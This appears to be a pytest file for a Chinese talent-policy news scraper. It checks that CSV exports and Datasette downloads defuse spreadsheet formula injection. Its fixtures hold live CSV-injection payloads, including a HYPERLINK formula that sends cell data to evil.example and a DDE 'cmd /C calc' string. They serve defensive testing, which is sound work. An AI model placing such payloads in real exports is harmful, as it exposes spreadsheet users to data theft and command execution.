"""`export --format csv` opens in a spreadsheet as text: a scraped cell that starts like a
formula (= + - @ tab) gets a leading apostrophe; numbers and ordinary text stay as they are."""

from __future__ import annotations

import asyncio
import csv
import io
import re

import pytest
import yaml
from talentwatch.core.records import Article
from talentwatch.storage.articles import save_article
from talentwatch.storage.export import spreadsheet_text
from talentwatch.web.csv_cells import CsvCells

from tests.cli_runner import invoke

HOSTILE = Article(
    url="http://127.0.0.1/rcgz/content/post_7.html", site="青禾组工网",
    title='=HYPERLINK("http://evil.example/x?d="&A1,"点击查看申报指南")',
    source="+86-20-83338888", author="@SUM(1+1)*cmd|' /C calc'!A0", editor="\t=1+1",
    text="-2026年度人才补贴名单见附件。", published="2026-11-18T09:30:00+08:00",
    talent=True, score=-0.25, topics=["人才引进"])
PLAIN = Article(url="http://127.0.0.1/rcgz/content/post_8.html", site="青禾组工网",
                title="关于发放2026年度人才安家补贴的公示", text="公示期为五个工作日。",
                source="青禾县委组织部", published="2026-11-17T09:00:00+08:00", talent=True, score=0.8)


def exported_rows(db, tmp_path) -> dict[str, dict[str, str]]:
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({"database": str(tmp_path / "archive.db"), "sites": []}),
                      encoding="utf-8")
    result = invoke(["--config", str(config), "export", "--format", "csv"])
    assert result.returncode == 0, result.stderr
    return {row["url"]: row for row in csv.DictReader(io.StringIO(result.stdout))}


def test_cells_that_would_run_as_formulas_are_text(db, tmp_path) -> None:
    save_article(db, HOSTILE)
    save_article(db, PLAIN)
    rows = exported_rows(db, tmp_path)
    hostile, plain = rows[HOSTILE.url], rows[PLAIN.url]
    assert hostile["title"] == "'" + HOSTILE.title
    assert hostile["source"] == "'+86-20-83338888"
    assert hostile["author"] == "'" + HOSTILE.author
    assert hostile["editor"] == "'\t=1+1"
    assert hostile["text"] == "'-2026年度人才补贴名单见附件。"
    assert hostile["score"] == "-0.25"  # a number is not text: a spreadsheet reads it as -0.25
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    text_cells = [v for k, v in hostile.items() if k != "score"]
    assert not [v for v in text_cells if v.startswith(formula_starts)]
    # ordinary cells are untouched
    assert plain["title"] == PLAIN.title and plain["source"] == "青禾县委组织部"
    assert plain["published"].startswith("2026-11-17") and plain["topics"].startswith("[")


# ---- the web view's CSV downloads (Datasette's, made safe by web/csv_cells.py) ----------

CELLS = ["", "普通文本", "=1+1", '=HYPERLINK("http://evil.example/","点击")', "+86-20-83338888", "-",
         "-0.25", "+3", "-1e5", "-1e5x", "-2026年度人才补贴", "@SUM(A1)", "\t=1+1", "\r\n=2+2",
         '"=quoted"', "a,b", "=a\r\nb", "12", "-" * 100, "第一行\n-第二行"]


def _number(cell: str) -> bool:
    return re.fullmatch(r"[+-](?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", cell) is not None


@pytest.mark.parametrize("chunk", [1, 2, 3, 5, 7, 64, 100_000])
def test_the_csv_stream_reader_marks_formula_cells_whatever_the_chunks(chunk: int) -> None:
    rows = [CELLS[i:i + 5] for i in range(0, len(CELLS), 5)] + [list(reversed(CELLS))]
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    raw = buffer.getvalue().encode()
    cells = CsvCells()
    out = b"".join(cells.feed(raw[i:i + chunk]) for i in range(0, len(raw), chunk)) + cells.close()
    got = list(csv.reader(io.StringIO(out.decode(), newline="")))
    assert got == [[c if _number(c) else spreadsheet_text(c) for c in row] for row in rows]


def test_the_web_views_csv_downloads_are_safe(db, tmp_path) -> None:
    from talentwatch.cli.serve import make_datasette
    from talentwatch.web.views import ensure_views

    save_article(db, HOSTILE)
    save_article(db, PLAIN)
    ensure_views(db)
    ds = make_datasette(tmp_path / "archive.db")

    async def fetch(path: str):
        await ds.invoke_startup()
        return await ds.client.get(path)

    for path in ["/archive/articles.csv?_col=title&_col=source&_col=author&_col=score",
                 "/archive/articles.csv?_stream=1&_dl=1&_col=title&_col=source&_col=author&_col=score",
                 "/archive.csv?sql=select+title,+source,+author,+score+from+articles",
                 "/archive/article_list.csv"]:
        answer = asyncio.run(fetch(path))
        assert answer.status_code == 200, (path, answer.text[:300])
        rows = {r["title"]: r for r in csv.DictReader(io.StringIO(answer.text))}
        assert set(rows) == {"'" + HOSTILE.title, PLAIN.title}, path
        hostile = rows["'" + HOSTILE.title]
        if "source" in hostile:
            assert hostile["source"] == "'+86-20-83338888" and hostile["author"] == "'" + HOSTILE.author
            assert hostile["score"] == "-0.25"
